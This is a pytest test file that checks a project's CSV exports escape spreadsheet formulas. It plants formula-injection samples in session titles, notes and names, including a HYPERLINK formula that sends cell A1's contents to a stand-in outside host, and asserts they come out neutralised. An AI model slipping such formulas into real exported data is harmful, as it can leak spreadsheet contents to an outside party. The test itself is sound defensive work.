"""CSV files: a spreadsheet shows what somebody typed and never evaluates it as a formula."""

from __future__ import annotations

import csv
from collections.abc import Callable
from io import StringIO
from pathlib import Path

import pytest

from referee.archive.bundle import read_bundle
from referee.archive.session_export import export_csv, export_jsonl
from referee.files.csv_files import Cell, escape_formula, write_csv_file
from referee.review import Review
from referee.review.analyst_tables import write_csv
from referee.review.comparison.comparison import write_comparison
from referee.review.comparison.comparison_row import RowReader
from referee.session.session import Session
from tests.referee.conftest import GAMES

FORMULA = '=HYPERLINK("http://example.org/?"&A1)'


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        (FORMULA, f"'{FORMULA}"),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("-2", "-2"),
        ("+1.5", "+1.5"),
        (-2, -2),
        (-1.5, -1.5),
        (None, None),
        ("", ""),
        ("a = b", "a = b"),
        ("'=1", "'=1"),
    ],
)
def test_a_text_is_no_formula_and_numbers_stay_numbers(cell: Cell, shown: Cell) -> None:
    assert escape_formula(cell) == shown


def test_rows_hold_what_is_shown(tmp_path: Path) -> None:
    path = write_csv_file(tmp_path / "new" / "t.csv", ("a", "b"), [(FORMULA, -1), (None, "one, two")])
    with path.open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file)) == [["a", "b"], [f"'{FORMULA}", "-1"], ["", "one, two"]]


def test_a_note_and_a_reason_are_no_formulas_and_json_lines_are_exact(begin: Callable[..., Session], tmp_path: Path) -> None:
    session = begin(title="=1+1")
    session.play(next(iter(session.legal_moves)), entered_by="@Ada")
    session.note(FORMULA)
    session.take_back("-x")
    with export_csv(session, tmp_path / "t.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert (rows[1]["notes"], rows[1]["entered_by"], rows[2]["reason"]) == (f"'{FORMULA}", "'@Ada", "'-x")
    store, wanted, _ = read_bundle(export_jsonl(session, tmp_path / "t.jsonl"))
    assert [remark.text for remark, _ in store.remarks(wanted)] == [FORMULA]


def test_no_table_of_a_review_or_a_comparison_holds_a_formula(begin: Callable[..., Session], tmp_path: Path) -> None:
    session = begin(title="=1+1", seat_names={"north": "@North"})
    session.play(next(iter(session.legal_moves)), entered_by="-Ada")
    session.note(FORMULA)
    session.rule((), "+x", question="=y")
    row = RowReader(session.store, GAMES).rows(session.store.sessions())
    files = [*write_csv(Review(session), tmp_path), write_comparison(tuple(row), tmp_path / "compared.csv")]
    texts = [path.read_bytes().decode() for path in files]
    cells = [cell for text in texts for line in csv.reader(StringIO(text, newline="")) for cell in line]
    assert {f"'{FORMULA}", "'=1+1", "'-Ada"} <= set(cells)
    assert "'@North; East; South; West" in cells
    assert [cell for cell in cells if escape_formula(cell) != cell] == []
